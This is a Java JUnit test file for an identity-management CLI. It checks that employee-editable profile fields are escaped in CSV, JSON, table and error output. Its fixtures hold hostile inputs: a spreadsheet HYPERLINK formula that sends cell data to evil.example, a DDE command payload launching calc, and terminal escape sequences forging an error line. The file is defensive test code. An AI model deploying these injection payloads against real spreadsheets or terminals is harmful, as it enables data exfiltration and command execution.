package org.workforceiam.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.workforceiam.cli.SimulatedOrg.GROUP;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.workforceiam.okta.simulator.SimUser;

/**
 * Profile fields are often editable by employees: what they type must not run as a formula in the
 * helpdesk's spreadsheet, nor drive the operator's terminal, nor forge an error line. JSON keeps
 * the exact values.
 */
class HostileProfileTest extends DemoOrgTest {
  private static final String EVIL = "\u001b[31mEvil\r\nerror: fake";

  private void hire(String id, String firstName, String lastName) {
    org.directory()
        .user(
            SimUser.of(id, id.toLowerCase(java.util.Locale.ROOT) + "@example.com", "ACTIVE")
                .profile("firstName", firstName)
                .profile("lastName", lastName)
                .profile("email", id.toLowerCase(java.util.Locale.ROOT) + "@example.com"))
        .member(GROUP, id);
  }

  private static List<String> rowOf(String csv, String id) {
    return csv.lines().filter(line -> line.startsWith(id + ",")).toList();
  }

  @Test
  void csvCellsThatASpreadsheetWouldRunAsFormulasAreQuotedBehindAnApostrophe() {
    hire("00uF1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1");
    hire("00uF2", "@SUM(A1:A9)", "-2");
    hire("00uF3", "\t=cmd|' /C calc'!A0", "\rTab");
    hire("00uF4", " =1+1", "\uFF1D1+1");

    CliRun sync = org.run("sync", "--format", "csv");

    assertThat(sync.code()).as("%s", sync).isZero();
    assertThat(rowOf(sync.out(), "00uF1"))
        .containsExactly(
            "00uF1,00uf1@example.com,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","
                + "\"'+1\",00uf1@example.com,ACTIVE,");
    assertThat(rowOf(sync.out(), "00uF2"))
        .containsExactly(
            "00uF2,00uf2@example.com,\"'@SUM(A1:A9)\",\"'-2\",00uf2@example.com,ACTIVE,");
    assertThat(rowOf(sync.out(), "00uF3"))
        .containsExactly(
            "00uF3,00uf3@example.com,\"'=cmd|' /C calc'!A0\",\"'Tab\",00uf3@example.com,ACTIVE,");
    assertThat(rowOf(sync.out(), "00uF4"))
        .containsExactly(
            "00uF4,00uf4@example.com,\"' =1+1\",\"'\uFF1D1+1\",00uf4@example.com,ACTIVE,");
    // A harmless value keeps its exact text.
    assertThat(sync.out()).contains("\r\n00uDemo01Ada,ada@example.com,Ada,Lovelace,");
  }

  @Test
  void controlCharactersNeverReachTheCsvFileAndEveryRecordIsOneLine() {
    hire("00uC1", "Ev\u0000il\u0007\u007f\u0085\u009b", "Li\nne\u001b[2J");

    CliRun sync = org.run("sync", "--format", "csv");

    assertThat(sync.code()).isZero();
    assertThat(sync.out().replace("\r\n", "")).doesNotContainPattern("[\\x00-\\x1f\\x7f-\\x9f]");
    assertThat(rowOf(sync.out(), "00uC1"))
        .containsExactly("00uC1,00uc1@example.com,Evil,Line[2J,00uc1@example.com,ACTIVE,");
    assertThat(sync.out().split("\r\n")).hasSize(10);
  }

  @Test
  void jsonKeepsTheExactValues() {
    hire("00uF1", "=HYPERLINK(\"x\")", EVIL);

    CliRun sync = org.run("sync");

    assertThat(sync.code()).isZero();
    assertThat(sync.jsonLines())
        .filteredOn(line -> "00uF1".equals(line.get("id")))
        .singleElement()
        .satisfies(
            line -> {
              assertThat(line).containsEntry("firstName", "=HYPERLINK(\"x\")");
              assertThat(line).containsEntry("lastName", EVIL);
            });
    assertThat(sync.out()).doesNotContain("\u001b").contains("\\u001b[31mEvil\\r\\nerror: fake");
  }

  @Test
  void aTableShowsEscapeSequencesAndLineBreaksAsTextNeverActingOnTheTerminal() {
    hire("00uEvil", "Eve", EVIL);

    CliRun sync = org.run("sync", "--format", "table");

    assertThat(sync.code()).isZero();
    assertThat(sync.out()).doesNotContain("\u001b").doesNotContain("\r");
    assertThat(sync.out().lines().filter(line -> line.startsWith("error:"))).isEmpty();
    assertThat(sync.out().lines().filter(line -> line.startsWith("00uEvil")))
        .singleElement()
        .asString()
        .contains("Eve \\u001B[31mEvil\\u000");
  }

  @Test
  void anErrorLineQuotingHostileTextIsOneLineWithoutEscapeSequences() {
    CliRun find = org.run("find", EVIL + "\u009b2J\u202e");

    assertThat(find.code()).isNotZero();
    String line = find.errorLine();
    assertThat(line)
        .doesNotContain("\u001b")
        .doesNotContain("\u009b")
        .doesNotContain("\u202e")
        .contains("\\u001B[31mEvil error: fake\\u009B2J\\u202E");
    assertThat(find.allStderr()).doesNotContain("\u001b").doesNotContain("\r");
  }

  @Test
  void aChangeOnAHostileNameKeepsTheAuditLogOneJsonObjectPerLine() {
    hire("00uEvil", "Eve", EVIL);

    CliRun unlock = org.run("reset-password", "00uEvil", "--dry-run");

    assertThat(unlock.code()).as("%s", unlock).isZero();
    List<Map<String, Object>> lines = org.auditLines();
    assertThat(lines).hasSize(2);
  }
}
